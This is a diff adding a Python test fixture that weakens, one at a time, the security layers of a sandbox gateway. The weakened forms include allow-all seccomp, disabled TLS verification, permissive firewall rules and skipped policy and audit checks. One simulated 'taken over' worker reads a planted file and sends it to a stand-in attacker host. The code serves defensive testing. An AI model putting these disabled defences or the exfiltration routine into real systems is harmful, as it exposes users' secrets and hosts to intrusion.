@@ -1,0 +1,283 @@
+"""The substitutions, by the process they are made in. Each weak form is the worst that a failing layer could be.
+
+`replaced` keeps the real function and asks the state at each call, so one running server serves every row of the
+matrix: hostd, vaultd and auditd read the state as they go, a worker once, when it is forked.
+"""
+
+import json
+import logging
+import os
+import socket
+from collections.abc import Callable
+from functools import wraps
+from pathlib import Path
+from typing import Any
+
+from tests.security.layers.state import STATE
+
+UNJUDGED, FAILING = "/v1/unjudged", "/v1/failing"
+"""Provoked in every worker: its judge forgets requests for the first, and raises over those for the other."""
+UNRECORDED = "/v1/unrecorded"
+"""Provoked in auditd: no record of a request for this path is accepted."""
+TAKEN_OVER = "a worker that is taken over"
+PLANTED = "planted-for-a-worker-that-was-taken-over"
+
+
+def replaced(owner: Any, name: str, defence: str, weak: Callable[..., Any]) -> None:
+    """Put `weak(real, ...)` in the place of `owner.name` wherever `defence` is off."""
+    real = getattr(owner, name)
+
+    @wraps(real)
+    def chosen(*arguments: Any, **named: Any) -> Any:
+        return weak(real, *arguments, **named) if STATE.off(defence) else real(*arguments, **named)
+
+    setattr(owner, name, chosen)
+
+
+def in_hostd() -> None:
+    """No route, the rules of a slot, the guard, the seccomp profile, the shim. Nobody watches: that would end slots."""
+    from demo import ungate
+    from runtimes import containers, guard, hostd, nft, shim_install, slots
+    from tests.unwatched import Unwatched
+
+    render, make, spawn, wrappers = nft.render_gateway, slots.make, guard.Guard._spawn, shim_install.write_wrappers
+
+    def rules(plan: Any) -> str:
+        text = render(plan)
+        if STATE.off("netdev pinning"):
+            text = text[text.index("table inet") :]
+        if STATE.off("redirect"):
+            text = text.replace("priority dstnat; policy drop", "priority dstnat; policy accept")
+        return "".join(f"{line}\n" for line in text.splitlines() if kept(line)).replace(
+            "policy drop", "policy accept" if STATE.off("gw0 rules") else "policy drop"
+        )
+
+    def kept(line: str) -> bool:
+        if "redirect to" in line:
+            return not STATE.off("redirect")
+        verdict = line.strip().endswith((" drop", "reject with tcp reset")) or line.strip() == "counter drop"
+        pinned = "ether saddr" in line
+        return not (verdict and not pinned and STATE.off("gw0 rules"))
+
+    def slot(directory: Path, index: int, plan: Any) -> Any:
+        made = make(directory, index, plan)
+        if STATE.off("no route"):
+            ungate.uplink(str(made.gateway), STATE.place("net"), index % 32)
+        return made
+
+    async def guarded(self: Any) -> None:
+        text = self.rules_file.read_text()
+        if STATE.off("upstream-namespace table"):
+            text = text.replace("goto worker", "accept")
+        elif "goto worker" not in text:
+            text = text.replace("accept\n\t}\n}", "goto worker\n\t}\n}")
+        self.rules_file.write_text(text)
+        self.table = ""  # as a first guard's: another table than the one before is meant here
+        await spawn(self)
+
+    def wrapped(directory: Path, *arguments: Any) -> Any:
+        entries = wrappers(directory, *arguments)
+        for path in directory.iterdir():
+            own = Path(__file__).with_name("shim.py")
+            path.write_text(
+                path.read_text().replace(str(Path(shim_install.__file__).with_name("oci_shim.py")), str(own))
+            )
+        return entries
+
+    nft.render_gateway, slots.make, shim_install.write_wrappers = rules, slot, wrapped
+    guard.Guard._spawn = guarded  # type: ignore[method-assign]
+    hostd.Watch = Unwatched  # type: ignore[assignment,misc]
+    open_profile = json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []})
+    replaced(containers.seccomp, "profile_json", "seccomp profile", lambda real: open_profile)
+
+
+def in_vaultd() -> None:
+    """What the owner of a secret and the sandbox's grants allow."""
+    from vault.custody import MAX_LEASE, Consent, Custody
+    from vault.grants import RequestScope
+
+    replaced(Custody, "decide", "vaultd's grant check", lambda real, *_: Consent(MAX_LEASE, RequestScope()))
+
+
+def in_auditd() -> None:
+    """Provoked: no record about `UNRECORDED` is accepted."""
+    from audit import writer
+    from wire import RequestError
+
+    real = writer._entry
+
+    def entry(identity: Any, item: Any) -> Any:
+        if item.get("fields", {}).get("path") == UNRECORDED:
+            raise RequestError("unavailable", "provoked")
+        return real(identity, item)
+
+    writer._entry = entry
+
+
+def in_workers() -> None:
+    """Everything of a worker, before the zygote forks the first one."""
+    from gateway import birth
+
+    become = birth.become_worker
+
+    def born(order: Any) -> int:
+        STATE.freeze()
+        return become(order)
+
+    birth.become_worker = born
+    _jail(birth)
+    _names()
+    _requests()
+    _engine()
+
+
+def _jail(birth: Any) -> None:
+    from gateway import confine
+
+    replaced(birth, "_drop_privileges", "worker uid", lambda real, uid, gid: None)
+    replaced(confine, "install", "worker seccomp", lambda real: None)
+    replaced(confine, "empty_root", "empty root", lambda real: None)
+    run = birth._run
+
+    def taken_over(*arguments: Any) -> int:
+        """A worker that is somebody else's: it reads what it finds and sends it to its owner."""
+        found = b""
+        try:
+            with open(STATE.place("planted"), "rb") as file:
+                found = file.read()
+        except OSError:
+            ours, theirs = os.pipe()
+            if os.fork() == 0:
+                os.dup2(theirs, 1)
+                try:
+                    os.execv("/bin/cat", ["cat", STATE.place("planted")])  # noqa: S606
+                finally:
+                    os._exit(1)
+            os.close(theirs)
+            found = os.read(ours, 4096)
+            os.close(ours)
+        try:
+            with socket.create_connection((STATE.place("attacker"), 22), timeout=3) as sock:
+                sock.sendall(b"taken over: " + found)
+                sock.recv(100)
+        except OSError as error:
+            logging.getLogger("provoked").warning("%s", error)
+        result: int = run(*arguments)
+        return result
+
+    def start(*arguments: Any) -> int:
+        chosen: int = (taken_over if STATE.provoked(TAKEN_OVER) else run)(*arguments)
+        return chosen
+
+    birth._run = start
+
+
+def _names() -> None:
+    """Names and addresses."""
+    from gateway import accept, dns_logic, dns_server, upstream, worker
+    from policy import decision
+    from policy.decision import AllowAddress, AllowFlow, AllowName, Deny, Treatment
+    from policy.facts import Scheme
+
+    def any_flow(real: Any, policy: Any, facts: Any) -> Any:
+        answer = real(policy, facts)
+        treatment = Treatment.INSPECT if facts.scheme is Scheme.HTTP else Treatment.SPLICE
+        return AllowFlow("off", treatment) if isinstance(answer, Deny) else answer
+
+    replaced(dns_logic, "decide_name", "DNS policy", lambda real, *_: AllowName("off"))
+    replaced(accept, "decide_flow", "SNI check", any_flow)
+    replaced(accept, "decide_address", "SNI check", lambda real, *_: AllowAddress("off"))
+    replaced(worker, "not_named", "name check of resolver and dialler", lambda real, *_: None)
+    replaced(upstream, "not_named", "name check of resolver and dialler", lambda real, *_: None)
+    replaced(upstream, "decide_address", "name check of resolver and dialler", lambda real, *_: AllowAddress("off"))
+    for module in (upstream, decision):
+        replaced(module, "dialable", "address classifier", lambda real, *_: None)
+    replaced(upstream, "own_address", "address classifier", lambda real, *_: False)
+    for module in (upstream, dns_server):
+        replaced(module, "permitted", "name-to-address check", lambda real, *_: AllowAddress("off"))
+
+
+def _requests() -> None:
+    """One request: its form, its judgement, its record, its secret."""
+    from audit.client import AuditClient
+    from gateway import hello, ports, translate
+    from gateway.full import gate
+    from policy.decision import AllowRequest, Deny
+    from vault.client import Lease
+
+    def any_request(real: Any, policy: Any, facts: Any) -> Any:
+        answer = real(policy, facts)
+        if not isinstance(answer, Deny):
+            return answer
+        plans = [plan for rules in policy.lists for rule in rules.of_host(facts.host) for plan in rule.injections]
+        return AllowRequest("off", tuple(plans))
+
+    async def unrecorded(real: Any, *_arguments: Any, **_fields: Any) -> int:
+        return 0
+
+    replaced(ports, "decide_request", "per-request check", any_request)
+    replaced(Lease, "check", "scope check of a lease", lambda real, *_: None)
+    replaced(AuditClient, "accept", "audit acceptance", unrecorded)
+    replaced(gate.Scrubber, "feed", "response scrub", lambda real, self, data: data)
+    replaced(gate.Scrubber, "finish", "response scrub", lambda real, self: b"")
+    replaced(gate, "scrub_header", "response scrub", lambda real, patterns, text: text)
+    agreement = "host, SNI and certificate agreement"
+    replaced(translate, "_check_authority", agreement, lambda real, *_: None)
+    split = hello.split_absolute
+
+    def any_target(real: Any, parts: Any, flow: Any) -> Any:
+        absolute = split(parts.target)
+        return real(parts, flow) if absolute is None else absolute[2]
+
+    replaced(translate, "_target", "absolute-target check", any_target)
+    replaced(hello, "split_absolute", "absolute-target check", lambda real, target: None)
+    framing = translate._check_framing
+
+    def lax(real: Any, parts: Any, named: Any) -> Any:
+        return framing(parts, {name: value for name, value in named.items() if name != b"content-length"})
+
+    replaced(translate, "_check_framing", "framing check", lax)
+
+
+def _engine() -> None:
+    """The inspecting engine's own last lines."""
+    from OpenSSL import SSL
+
+    from gateway.full import connection, contexts, engine, gate
+
+    agreement = "host, SNI and certificate agreement"
+
+    def unverified(real: Any, self: Any, host: str, alpn: Any) -> Any:
+        made = real(self, host, alpn)
+        made.set_verify(SSL.VERIFY_NONE, lambda *_: True)
+        return made
+
+    async def swallowed(real: Any, self: Any, hook: Any) -> None:
+        """As mitmproxy's own hosts do: an exception of an add-on is a line in a log, and the flow goes on."""
+        (data,) = hook.args()
+        for addon in (self, *self._addons):
+            method = getattr(addon, f"on_{hook.name}" if addon is self else hook.name, None)
+            try:
+                result = method(data) if method is not None else None
+                if result is not None:
+                    await result
+            except Exception:  # noqa: BLE001, S112 - the point of this substitute
+                continue
+
+    replaced(contexts.UpstreamContext, "connect", agreement, unverified)
+    replaced(connection, "verified", agreement, lambda real, *_: True)
+    replaced(engine.FullEngine, "_refusal", agreement, lambda real, *_: None)
+    replaced(gate.Sentinel, "_check", "sentinel", lambda real, *_: None)
+    replaced(connection.FlowConnection, "handle_hook", "hook wrapper", swallowed)
+    replaced(gate.Gate, "may_connect", "no connection without an allowed request", lambda real, *_: True)
+
+    judge = gate.Gate.requestheaders
+
+    async def provoked(self: Any, flow: Any) -> None:
+        if flow.request.path == UNJUDGED:
+            return
+        if flow.request.path == FAILING:
+            raise RuntimeError("provoked")
+        await judge(self, flow)
+
+    gate.Gate.requestheaders = provoked  # type: ignore[method-assign]
